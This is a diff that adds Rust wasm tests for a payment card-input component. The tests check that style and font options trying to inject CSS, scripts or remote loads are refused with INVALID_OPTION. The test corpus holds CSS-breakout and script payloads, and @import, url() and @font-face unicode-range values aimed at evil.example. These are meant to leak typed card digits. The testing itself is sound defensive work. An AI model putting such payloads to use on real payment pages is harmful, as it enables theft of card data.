@@ -726,3 +726,122 @@ async fn setup_errors_are_typed() {
     assert!(["INVALID_OPTION", "HOLDER_MISSING"].contains(&get_str(&missing, "code").as_str()));
     let _ = JSON::stringify(&missing);
 }
+
+/// Style and font options that try to become CSS, load something, or read typed glyphs:
+/// each is refused at mount and at `update()` with `INVALID_OPTION` naming its path.
+const INJECTIONS: &str = r#"[
+  ["styles.base.color", {"styles": {"base": {"color": "red;} input{color:blue"}}}],
+  ["styles.base.color", {"styles": {"base": {"color": "red\"}"}}}],
+  ["styles.base.fontFamily", {"styles": {"base": {"fontFamily": "\"x\"; } @import url(//evil.example/x.css)"}}}],
+  ["styles.base.color", {"styles": {"base": {"color": "\\72 ed"}}}],
+  ["styles.base.color", {"styles": {"base": {"color": "</style><script>alert(1)</script>"}}}],
+  ["styles.base.backgroundColor", {"styles": {"base": {"backgroundColor": "url(https://evil.example/x)"}}}],
+  ["styles.focus.boxShadow", {"styles": {"focus": {"boxShadow": "0 0 image-set(\"https://evil.example/x\" 1x)"}}}],
+  ["styles.base.color", {"styles": {"base": {"color": "var(--leak)"}}}],
+  ["styles.base.fontWeight", {"styles": {"base": {"fontWeight": "@import 'x'"}}}],
+  ["styles.base.color", {"styles": {"base": {"color": "LONG"}}}],
+  ["styles.base.backgroundImage", {"styles": {"base": {"backgroundImage": "none"}}}],
+  ["styles.valid?has?x?", {"styles": {"valid:has(x)": {"color": "red"}}}],
+  ["fonts[0].src", {"fonts": [{"family": "Leak", "src": "https://evil.example/f\");}@font-face{font-family:Leak;src:url(https://evil.example/3);unicode-range:U+33"}]}],
+  ["fonts[0].src", {"fonts": [{"family": "Leak", "src": "https://evil.example/f;{}:@"}]}],
+  ["fonts[0].src", {"fonts": [{"family": "Leak", "src": "//evil.example/f.woff2"}]}],
+  ["fonts[0].src", {"fonts": [{"family": "Leak", "src": "data:font/woff2;base64,AAAA"}]}],
+  ["fonts[0].src", {"fonts": [{"family": "Leak", "src": "http://evil.example/f.woff2"}]}],
+  ["fonts[0].weight", {"fonts": [{"family": "Leak", "src": "https://evil.example/f", "weight": "400\";unicode-range:U+30"}]}],
+  ["fonts[0].unicodeRange", {"fonts": [{"family": "Leak", "src": "https://evil.example/f", "unicodeRange": "U+30"}]}],
+  ["fonts[0].family", {"fonts": [{"family": "x\";src:url(https://evil.example/x)", "src": "https://evil.example/f"}]}],
+  ["fonts", {"fonts": [{"family": "A", "src": "https://e.example/1"}, {"family": "A", "src": "https://e.example/2"}, {"family": "A", "src": "https://e.example/3"}, {"family": "A", "src": "https://e.example/4"}, {"family": "A", "src": "https://e.example/5"}]}]
+]"#;
+
+fn injection_corpus() -> Vec<(String, JsValue)> {
+    let corpus = INJECTIONS.replace("LONG", &"a".repeat(5000));
+    let list: Array = JSON::parse(&corpus).unwrap().unchecked_into();
+    list.iter()
+        .map(|entry| {
+            let entry: Array = entry.unchecked_into();
+            (entry.get(0).as_string().unwrap(), entry.get(1))
+        })
+        .collect()
+}
+
+#[wasm_bindgen_test]
+async fn style_and_font_injections_are_refused_with_their_path() {
+    let (public_jwk, _) = key_pair(2048).await;
+    for (path, options) in injection_corpus() {
+        let options = with_options(
+            &obj(&[
+                ("isolation", "inline".into()),
+                ("publicKey", public_jwk.clone()),
+            ]),
+            &options,
+        );
+        let (error, _) = mount_error("", options).await;
+        assert_eq!(get_str(&error, "code"), "INVALID_OPTION", "{path}");
+        let message = get_str(&error, "message");
+        assert!(message.starts_with(&path), "{path}: {message}");
+        assert!(
+            !message.contains("evil"),
+            "errors do not echo values: {message}"
+        );
+    }
+    let faces_before = document().fonts().size();
+    let m = mount().await;
+    for (path, options) in injection_corpus() {
+        let error = m.card.update(options.unchecked_into()).unwrap_err();
+        assert_eq!(get_str(&error, "code"), "INVALID_OPTION", "update: {path}");
+    }
+    assert_eq!(document().fonts().size(), faces_before, "no face was added");
+    m.card.unmount();
+}
+
+#[wasm_bindgen_test]
+async fn styles_go_through_the_cssom_and_fonts_through_font_face() {
+    let styles = JSON::parse(
+        r#"{"base": {"color": "rgb(1, 2, 3)", "fontFamily": "'Paykka Test', monospace", "letterSpacing": "2px",
+            "padding": "4px 6px", "textTransform": "uppercase", "border": "2px solid #00ff00",
+            "transition": "color .2s ease-in"},
+            "invalid": {"color": "hsl(0 100% 50%)"}}"#,
+    )
+    .unwrap();
+    let fonts = JSON::parse(
+        r#"[{"family": "Paykka Test", "src": "https://127.0.0.1:9/paykka-test.woff2", "weight": "400", "style": "normal"}]"#,
+    )
+    .unwrap();
+    let faces_before = document().fonts().size();
+    let m = mount_with("", obj(&[("styles", styles), ("fonts", fonts)]))
+        .await
+        .unwrap();
+    let style = web_sys::window()
+        .unwrap()
+        .get_computed_style(&m.input(0))
+        .unwrap()
+        .unwrap();
+    assert_eq!(style.get_property_value("color").unwrap(), "rgb(1, 2, 3)");
+    assert_eq!(style.get_property_value("letter-spacing").unwrap(), "2px");
+    assert_eq!(style.get_property_value("padding-left").unwrap(), "6px");
+    assert_eq!(
+        style.get_property_value("border-top-color").unwrap(),
+        "rgb(0, 255, 0)"
+    );
+    assert_eq!(
+        style.get_property_value("text-transform").unwrap(),
+        "uppercase"
+    );
+    // One face per field view, added and loading (or failed) before anything is typed.
+    let set = document().fonts();
+    assert!(set.size() > faces_before, "the faces are in document.fonts");
+    let statuses: Vec<String> = js_sys::try_iter(set.as_ref())
+        .unwrap()
+        .unwrap()
+        .map(Result::unwrap)
+        .filter(|f| get_str(f, "family").contains("Paykka Test"))
+        .map(|f| get_str(&f, "status"))
+        .collect();
+    assert!(!statuses.is_empty());
+    assert!(
+        statuses.iter().all(|s| s != "unloaded"),
+        "every face was asked for at mount: {statuses:?}"
+    );
+    m.card.unmount();
+    assert_eq!(set.size(), faces_before, "unmount removes the faces");
+}
